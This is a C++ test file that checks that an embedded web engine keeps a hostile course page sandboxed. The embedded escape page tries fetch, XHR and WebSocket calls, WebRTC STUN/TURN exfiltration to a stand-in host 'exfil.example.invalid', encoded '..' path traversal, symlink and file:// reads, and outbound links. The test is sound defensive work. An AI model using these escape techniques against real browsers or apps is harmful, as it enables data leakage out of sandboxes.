// A hostile course page in the real web engine tries every way out it has:
// network requests of each kind, WebRTC to a STUN/TURN server of its own,
// files of another host, ".." in disguise, links out of the course and a
// path whose letter case leads through a link. Local listeners stand in for
// the servers: they must see nothing, and the page must stay where it is.
// WebRTC is gone from every frame a page makes, and even a page without the
// player's scripts gets no packet out through it.
#include "browser/PageScript.h"
#include "platform/browser/CourseScheme.h"
#include "platform/browser/EngineSwitches.h"
#include "platform/browser/TCppWebBrowser.h"
#include "platform/browser/WebEngineBrowserEngine.h"
#include "platform/files/CourseFiles.h"
#include "support/TempDir.h"
#include "support/WaitUntil.h"

#include <gtest/gtest.h>
#include <QElapsedTimer>
#include <QFile>
#include <QHostInfo>
#include <QNetworkDatagram>
#include <QSignalSpy>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTest>
#include <QUdpSocket>
#include <QWebEnginePage>
#include <QWebEngineView>
#include <functional>
#include <memory>
#include <vector>

using namespace lectern::platform;

using lectern::test::waitUntil;

namespace {

// The page's attempts; @TCP@ is the TCP port, @UDP@ the UDP port, @OUT@ the
// folder outside the course.
const char* const escapePage = R"(<html><head>
<link rel="prefetch" href="http://127.0.0.1:@TCP@/prefetch">
<link rel="dns-prefetch" href="http://escape.invalid/">
<meta http-equiv="refresh" content="1; url=http://127.0.0.1:@TCP@/redirect">
</head><body>
<p id="t1" class="text">Escape</p>
<img id="host" src="file://host@OUT@/secret.png">
<img id="dots" src="%2e%2e/%2e%2e/%2e%2e/outside/secret.png">
<img id="case" src="LINKED/secret.png">
<img id="inside" src="picture.png">
<a id="out" href="file://@OUT@/secret.htm">out</a>
<a id="web" href="http://127.0.0.1:@TCP@/link">web</a>
<a id="mail" href="mailto:someone@example.com">mail</a>
<a id="smb" href="smb://127.0.0.1/share">smb</a>
<script>
window.results = {};
function note(name, value) { window.results[name] = String(value); }
fetch('http://127.0.0.1:@TCP@/fetch').then(() => note('fetch', 'ok'), () => note('fetch', 'failed'));
try {
  const xhr = new XMLHttpRequest();
  xhr.onload = () => note('xhr', 'ok');
  xhr.onerror = () => note('xhr', 'failed');
  xhr.open('GET', 'http://127.0.0.1:@TCP@/xhr');
  xhr.send();
} catch (e) { note('xhr', 'failed'); }
try {
  const ws = new WebSocket('ws://127.0.0.1:@TCP@/socket');
  ws.onopen = () => note('ws', 'ok');
  ws.onerror = () => note('ws', 'failed');
} catch (e) { note('ws', 'failed'); }
function rtc(Peer, name) {
  if (typeof Peer !== 'function') { note(name, 'absent'); return; }
  try {
    const pc = new Peer({iceServers: [
      {urls: 'stun:127.0.0.1:@UDP@'},
      {urls: ['turn:127.0.0.1:@UDP@?transport=udp', 'turn:127.0.0.1:@TCP@?transport=tcp',
              'turn:127.0.0.1:3478?transport=tcp', 'turns:127.0.0.1:3478?transport=tcp',
              'turn:exfil.example.invalid:3478?transport=tcp'],
       username: 'leak:secret', credential: 'c'}]});
    pc.createDataChannel('x');
    pc.onicecandidate = (e) => { if (e.candidate) note(name + 'candidate', e.candidate.candidate); };
    pc.createOffer().then((offer) => pc.setLocalDescription(offer))
      .then(() => note(name, 'gathering'), (e) => note(name, 'failed ' + e));
  } catch (e) { note(name, 'failed ' + e); }
}
rtc(window.RTCPeerConnection, 'rtc');
rtc(window.webkitRTCPeerConnection, 'webkitrtc');
// A fresh frame's window is made before any script of the player's can run in it.
const frame = document.createElement('iframe');
document.body.appendChild(frame);
rtc(frame.contentWindow.RTCPeerConnection, 'framertc');
rtc(window[0].webkitRTCPeerConnection, 'indexrtc');
// Frames whose own documents try, as they are parsed.
const inner = '<script>parent.rtc(window.RTCPeerConnection, "@NAME@")<' + '/script>';
const srcdoc = document.createElement('iframe');
srcdoc.srcdoc = inner.replace('@NAME@', 'srcdocrtc');
document.body.appendChild(srcdoc);
const scripted = document.createElement('iframe');
scripted.src = 'javascript:' + JSON.stringify(inner.replace('@NAME@', 'jsrtc'));
document.body.appendChild(scripted);
for (const id of ['out', 'web', 'mail', 'smb']) document.getElementById(id).click();
</script>
</body></html>)";

}  // namespace

// Stand-in servers on the loopback address, counting what reaches them:
// one TCP and one UDP port of the test's own, TURN's port 3478 on both, and
// port 9, where the engine's proxy once was.
struct Listeners {
    Listeners() {
        for (quint16 port : {quint16(0), quint16(3478), quint16(9)}) {
            auto& server = tcp.emplace_back(std::make_unique<QTcpServer>());
            // Port 9 needs root; without it the other ports still watch.
            if (!server->listen(QHostAddress::LocalHost, port) && port == 0)
                ADD_FAILURE() << "no TCP port";
            QObject::connect(server.get(), &QTcpServer::newConnection, [this, s = server.get()] {
                while (QTcpSocket* socket = s->nextPendingConnection()) {
                    ++connections;
                    socket->close();
                }
            });
        }
        for (quint16 port : {quint16(0), quint16(3478)}) {
            auto& socket = udp.emplace_back(std::make_unique<QUdpSocket>());
            if (!socket->bind(QHostAddress::LocalHost, port) && port == 0)
                ADD_FAILURE() << "no UDP port";
            QObject::connect(socket.get(), &QUdpSocket::readyRead, [this, s = socket.get()] {
                while (s->hasPendingDatagrams()) {
                    s->receiveDatagram();
                    ++datagrams;
                }
            });
        }
    }
    quint16 tcpPort() const { return tcp.front()->serverPort(); }
    quint16 udpPort() const { return udp.front()->localPort(); }

    std::vector<std::unique_ptr<QTcpServer>> tcp;
    std::vector<std::unique_ptr<QUdpSocket>> udp;
    int connections = 0;
    int datagrams = 0;
};

TEST(WebEngineSandbox, APageHasNoWayOutOfTheCourse) {
    Listeners listeners;
    const int& connections = listeners.connections;
    const int& datagrams = listeners.datagrams;

    lectern::test::TempDir root;
    const QString course = root.path() + "/course";
    const QString outside = root.path() + "/outside";
    QFile picture(lectern::test::testDataPath("pages/course/picture.png"));
    ASSERT_TRUE(picture.open(QIODevice::ReadOnly));
    const QByteArray png = picture.readAll();
    root.write("course/data/text/picture.png", png);
    root.write("outside/secret.png", png);
    root.write("outside/secret.htm", "<p>secret</p>");
    ASSERT_TRUE(QFile::link(outside, course + "/data/text/linked"));
    root.write("course/data/text/escape.htm",
               QString::fromLatin1(escapePage)
                   .replace("@TCP@", QString::number(listeners.tcpPort()))
                   .replace("@UDP@", QString::number(listeners.udpPort()))
                   .replace("@OUT@", outside)
                   .toUtf8());

    CourseFiles files;
    WebEngineBrowserEngine engine{files, course};
    TCppWebBrowser browser{engine};
    browser.resize(600, 400);
    browser.show();
    QSignalSpy complete(&browser, &TCppWebBrowser::OnDocumentComplete);
    browser.Navigate(course + "/data/text/escape.htm");
    ASSERT_TRUE(complete.wait(30000));
    QWebEnginePage* page = static_cast<QWebEngineView*>(browser.view())->page();
    const auto js = [&](const QString& script) {
        return lectern::test::scriptResult(page, script);
    };
    const QUrl shown = page->url();
    ASSERT_TRUE(waitUntil([&] {
        return js("['fetch', 'xhr', 'ws', 'rtc', 'webkitrtc', 'framertc', 'indexrtc', "
                  "'srcdocrtc', 'jsrtc'].every((k) => k in window.results)")
            .toBool();
    }));
    // Time for ICE gathering, the refresh and the clicks to do their worst.
    QTest::qWait(4000);

    EXPECT_EQ(connections, 0) << "fetch, XHR, WebSocket, prefetch, refresh, links or TURN/TCP";
    EXPECT_EQ(datagrams, 0) << "STUN or TURN over UDP";
    EXPECT_EQ(js("window.results.fetch").toString(), "failed");
    EXPECT_EQ(js("window.results.xhr").toString(), "failed");
    EXPECT_EQ(js("window.results.ws").toString(), "failed");
    for (const char* name : {"rtc", "webkitrtc", "framertc", "indexrtc", "srcdocrtc", "jsrtc"})
        EXPECT_EQ(js(QStringLiteral("window.results.%1").arg(name)).toString(), "absent") << name;
    EXPECT_EQ(page->url(), shown) << "no link or refresh took the page away";
    EXPECT_EQ(js("document.getElementById('inside').naturalWidth").toInt(), 8);
    for (const char* id : {"host", "dots", "case"})
        EXPECT_EQ(js(QStringLiteral("document.getElementById('%1').naturalWidth").arg(id)).toInt(),
                  0)
            << id;
    for (const QString& url : engine.passedRequests())
        EXPECT_TRUE(url.startsWith("lectern://course/")) << url.toStdString();
}

// The engine's own switches, without the player's page scripts: a page
// that still has WebRTC gathers, but its TURN servers, over TCP and TLS, by
// address or by name, see nothing, and neither does anything that answers
// where the engine sends them, whose name resolves nowhere.
TEST(WebEngineSandbox, WebRtcReachesNoServerEvenFromAnUnguardedPage) {
    const QString proxyHost = QUrl(QString::fromLatin1(EngineSwitches::unreachableProxy)).host();
    EXPECT_NE(QHostInfo::fromName(proxyHost).error(), QHostInfo::NoError) << "the proxy resolves";
    Listeners listeners;
    lectern::test::TempDir course;
    course.write("rtc.htm", QStringLiteral(R"(<html><body><script>
window.result = '';
const pc = new RTCPeerConnection({iceServers: [
  {urls: ['turn:127.0.0.1:3478?transport=tcp', 'turns:127.0.0.1:3478?transport=tcp',
          'turn:127.0.0.1:3478?transport=udp', 'stun:127.0.0.1:%1',
          'turn:exfil.example.invalid:3478?transport=tcp'],
   username: 'leak:secret', credential: 'c'}]});
pc.createDataChannel('x');
pc.createOffer().then((offer) => pc.setLocalDescription(offer))
  .then(() => { window.result = 'gathering'; }, (e) => { window.result = 'failed ' + e; });
</script></body></html>)")
                                .arg(listeners.udpPort())
                                .toUtf8());
    CourseFiles files;
    WebEngineBrowserEngine engine{files, course.path()};
    QWebEngineView view;
    auto* page = new QWebEnginePage(&engine.profile(), &view);
    view.setPage(page);
    view.resize(400, 300);
    view.show();
    QSignalSpy loaded(page, &QWebEnginePage::loadFinished);
    engine.beginNavigation();
    page->load(CourseScheme::urlOf("rtc.htm"));
    ASSERT_TRUE(loaded.wait(30000));
    QString result;
    ASSERT_TRUE(waitUntil([&] {
        page->runJavaScript("window.result", [&](const QVariant& v) { result = v.toString(); });
        return !result.isEmpty();
    }));
    EXPECT_EQ(result, "gathering");
    QTest::qWait(4000);  // time for ICE gathering to do its worst
    EXPECT_EQ(listeners.connections, 0) << "TURN over TCP or TLS, or the proxy";
    EXPECT_EQ(listeners.datagrams, 0) << "STUN or TURN over UDP";
}
